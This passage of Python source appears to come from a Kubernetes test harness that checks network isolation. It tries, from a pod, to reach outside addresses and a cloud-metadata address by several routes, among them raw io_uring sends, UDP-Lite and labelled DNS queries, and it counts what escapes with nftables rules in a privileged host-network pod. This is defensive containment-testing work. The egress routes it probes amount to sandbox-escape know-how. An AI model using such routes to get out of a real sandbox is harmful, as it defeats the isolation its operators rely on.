    entries[:64] = struct.pack("=BBHiQQII32x", 26, 0, 0, descriptor, 0, ctypes.addressof(buffer), len(words), 0)
    queue[submission[6] : submission[6] + 4] = bytes(4)
    queue[submission[1] : submission[1] + 4] = (1).to_bytes(4, "little")
    if library.syscall(426, ring, 1, 1, 1, None, 0) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), "io_uring_enter")
    (result,) = struct.unpack("=i", done[completion[5] + 8 : completion[5] + 12])
    if result < 0:
        raise OSError(-result, os.strerror(-result), "IORING_OP_SEND")


def _reason(error: BaseException) -> str:
    name = errno.errorcode.get(getattr(error, "errno", None) or 0, "")
    return f"{type(error).__name__} {name} {error}"


# --- Trying, in a pod -------------------------------------------------------------------------------------------------


def _try(places: dict[str, Any], names: list[str], answer_limit_s: float) -> None:
    results = {name: asdict(_tried(WAYS[name], places, answer_limit_s)) for name in names or WAYS}
    print(json.dumps(results), flush=True)


def _tried(one: Way, places: dict[str, Any], answer_limit_s: float) -> Result:
    """Try one way in a child process: it may change who it is and what it sees."""
    begun = time.monotonic()
    limit_s = answer_limit_s if one.proof == "answer" else SOCKET_LIMIT_S
    inlet, outlet = os.pipe()
    child = os.fork()
    if not child:
        _socket_limit_s.set(limit_s)
        signal.alarm(int(TRY_LIMIT_S * limit_s / SOCKET_LIMIT_S))
        try:
            said = ("reached", str(one.attempt(Places(**places, port=one.port))))
        except OSError as error:
            said = ("stopped", _reason(error))
        except BaseException as error:  # told, and judged there
            said = ("broken", _reason(error))
        os.write(outlet, json.dumps(said).encode()[:60_000])
        os._exit(0)
    os.close(outlet)
    with os.fdopen(inlet, "rb") as pipe:
        told = pipe.read()
    os.waitpid(child, 0)
    outcome, said = json.loads(told) if told else ("broken", "no word within the time")
    return Result(outcome, said[:2000], round(time.monotonic() - begun, 2))


# --- Outside, in a pod on the node's network --------------------------------------------------------------------------


def _clean() -> None:
    """Also what a killed run has left."""
    for command in (
        ("nft", "delete", "table", "inet", TABLE),
        ("nft", "delete", "table", "netdev", TABLE),
        ("ip", "link", "delete", DEVICE),
    ):
        subprocess.run(command, capture_output=True, check=False)


def _serve(node: str) -> None:
    def end(*_: object) -> None:
        _clean()
        sys.exit(0)

    signal.signal(signal.SIGTERM, end)
    _clean()
    # A bridge without ports: unlike a dummy device it is there wherever pods are.
    _must("ip", "link", "add", DEVICE, "type", "bridge")
    for address in (OUT4, METADATA):
        _must("ip", "address", "add", f"{address}/32", "dev", DEVICE)
    _must("ip", "address", "add", f"{OUT6}/128", "dev", DEVICE, "nodad")
    _must("ip", "link", "set", DEVICE, "up")
    _must("nft", "-f", "-", stdin=_ARRIVED)
    ports = [one.port for one in WAYS.values()]
    selector = selectors.DefaultSelector()
    for address, mine in ((OUT4, [53, *ports]), (OUT6, [53, *ports]), (node, ports), (METADATA, [80])):
        for port in mine:
            selector.register(socket.create_server((address, port), family=_family(address)), selectors.EVENT_READ)
            for protocol in (0, IPPROTO_UDPLITE):
                raw = socket.socket(_family(address), socket.SOCK_DGRAM, protocol)
                raw.bind((address, port))
                selector.register(raw, selectors.EVENT_READ)
    Path("/tmp/ready").touch()
    while True:
        for key, _ in selector.select():
            with contextlib.suppress(OSError):
                _reply(key.fileobj)  # type: ignore[arg-type]


def _reply(server: socket.socket) -> None:
    if server.type == socket.SOCK_DGRAM:
        words, client = server.recvfrom(65_535)
        server.sendto(words[:2] + WORD, client)  # the number of a question comes back
        return
    connection, _ = server.accept()
    with connection:
        connection.settimeout(PROOF_LIMIT_S)
        words = connection.recv(512)
        connection.sendall(words[:4] + WORD)


_ARRIVED: Final = f"""
table inet {TABLE} {{
  set arrived4 {{ type ipv4_addr . ipv4_addr . inet_proto . inet_service; flags dynamic; counter; }}
  set arrived6 {{ type ipv6_addr . ipv6_addr . inet_proto . inet_service; flags dynamic; counter; }}
  chain arrive {{
    type filter hook prerouting priority raw; policy accept;
    ip daddr {{ {OUT4}, {METADATA} }} update @arrived4 {{ ip saddr . ip daddr . ip protocol . th dport }}
    ip6 daddr {OUT6} update @arrived6 {{ ip6 saddr . ip6 daddr . meta l4proto . th dport }}
  }}
}}
"""


def _watch(devices: Mapping[str, int]) -> None:
    """Count what comes out of pods whose device has these numbers on the node's side."""
    rules = "".join(
        f"""
  set {who}4 {{ type ipv4_addr . ipv4_addr . inet_proto . inet_service; flags dynamic; counter; }}
  set {who}6 {{ type ipv6_addr . ipv6_addr . inet_proto . inet_service; flags dynamic; counter; }}
  counter {who}_labels {{}}
  counter {who}_others {{}}
  chain {who} {{
    type filter hook ingress device "{socket.if_indextoname(number)}" priority -500; policy accept;
    ether type arp accept
    icmpv6 type {{ nd-neighbor-solicit, nd-neighbor-advert, nd-router-solicit }} accept
    meta l4proto udp udp dport 53 @th,168,64 0x{LABEL.hex()} counter name {who}_labels
    ether type ip update @{who}4 {{ ip saddr . ip daddr . ip protocol . th dport }} accept
    ether type ip6 update @{who}6 {{ ip6 saddr . ip6 daddr . meta l4proto . th dport }} accept
    counter name {who}_others
  }}"""
        for who, number in devices.items()
    )
    head = f"table netdev {TABLE} {{}}\ndelete table netdev {TABLE}\n"
    _must("nft", "-f", "-", stdin=f"{head}table netdev {TABLE} {{{rules}\n}}\n")


def _must(*command: str, stdin: str = "") -> None:
    done = subprocess.run(command, input=stdin, capture_output=True, text=True, check=False)
    if done.returncode:
        sys.exit(f"{' '.join(command)}: {done.stderr}")


# --- Here -------------------------------------------------------------------------------------------------------------


@dataclass
class Outside:
    """The pod that plays everything outside, and what it has counted."""

    kubectl: Kubectl
    namespace: str
    image: str
    node: str = field(default="", init=False)

    def start(self) -> None:
        """Start it; listeners answer and counters count when this returns."""
        context = {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}}
        command = ["tini", "--", "sh", "-c", 'exec python3 -c "$PROGRAM" serve "$NODE"']
        container = {
            "name": "main", "image": self.image, "imagePullPolicy": "IfNotPresent", "command": command,
            "securityContext": context,
            "env": [
                PROGRAM,
                {"name": "NODE", "valueFrom": {"fieldRef": {"fieldPath": "status.hostIP"}}},
            ],
            "readinessProbe": {"exec": {"command": ["test", "-e", "/tmp/ready"]}, "periodSeconds": 1},
        }  # fmt: skip
        spec = {"hostNetwork": True, "terminationGracePeriodSeconds": 5, "containers": [container]}
        metadata = {"name": "outside", "namespace": self.namespace}
        self.kubectl.apply({"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec})
        self.kubectl("wait", f"--namespace={self.namespace}", "--for=condition=Ready", "pod/outside", "--timeout=60s")
        self.node = self.kubectl.json("pod", "outside", f"--namespace={self.namespace}")["status"]["hostIP"]

    def stop(self) -> None:
        """Leave the node as it was."""
        self.python(SOURCE, "clean")

    def python(self, program: str, *arguments: str) -> str:
        """Run a program there, on the node's network."""
        return self._run("python3", "-", *arguments, stdin=program)

    def watch(self, **devices: str) -> None:
        """Count from now on what comes out of pods; each by the number of its device's other end."""
        numbers = json.dumps({who: int(number) for who, number in devices.items()})
        self.python(SOURCE, "watch", numbers)

    def seen(self, who: str) -> Seen:
        """What a watched pod has let out."""
        listed = self._listed("netdev")
        return Seen(
            (*listed.packets[f"{who}4"], *listed.packets[f"{who}6"]),
            listed.counters[f"{who}_labels"],
            listed.counters[f"{who}_others"],
        )

    def arrived(self) -> tuple[Packet, ...]:
        """What has come to the addresses outside, whoever sent it."""
        listed = self._listed("inet").packets
        return (*listed["arrived4"], *listed["arrived6"])

    def _listed(self, family: str) -> _Listed:
        found = json.loads(self._run("nft", "-j", "list", "table", family, TABLE))["nftables"]
        packets, counters = {}, {}
        for one in found:
            if "set" in one:
                packets[one["set"]["name"]] = tuple(_packet(each["elem"]) for each in one["set"].get("elem", ()))
            elif "counter" in one:
                counters[one["counter"]["name"]] = int(one["counter"]["packets"])
        return _Listed(packets, counters)

    def _run(self, *command: str, stdin: str = "") -> str:
        return self.kubectl("exec", "-i", f"--namespace={self.namespace}", "outside", "--", *command, stdin=stdin)


@dataclass(frozen=True)
class _Listed:
    packets: dict[str, tuple[Packet, ...]]
    counters: dict[str, int]


_PROTOCOLS: Final = {"icmp": 1, "igmp": 2, "tcp": 6, "udp": 17, "dccp": 33, "ipv6-icmp": 58, "icmpv6": 58, "sctp": 132, "udplite": 136}  # fmt: skip  # noqa: E501


def _packet(element: Mapping[str, Any]) -> Packet:
    source, target, protocol, port = element["val"]["concat"]
    number = _PROTOCOLS[protocol] if isinstance(protocol, str) else protocol
    return Packet(source, target, number, int(port), int(element["counter"]["packets"]))


def results(printed: str) -> dict[str, Result]:
    """What `try` printed."""
    return {name: Result(**one) for name, one in json.loads(printed.splitlines()[-1]).items()}


SOURCE: Final = Path(__file__).read_text() if __name__ != "__main__" else ""
"""This file, to be run elsewhere: `python3 - try PLACES [NAME...]` with it on the standard input; with `prove`, where
answers come, they are waited for longer."""
PROGRAM: Final = {"name": "PROGRAM", "value": SOURCE.replace("$(", "$$(")}
"""The same as a container's variable, for `python3 -c "$PROGRAM"`."""

if __name__ == "__main__":
    verb, *rest = sys.argv[1:]
    if verb in {"try", "prove"}:
        _try(json.loads(rest[0]), rest[1:], PROOF_LIMIT_S if verb == "prove" else SOCKET_LIMIT_S)
    elif verb == "serve":
        _serve(rest[0])
    elif verb == "watch":
        _watch(json.loads(rest[0]))
    else:
        _clean()
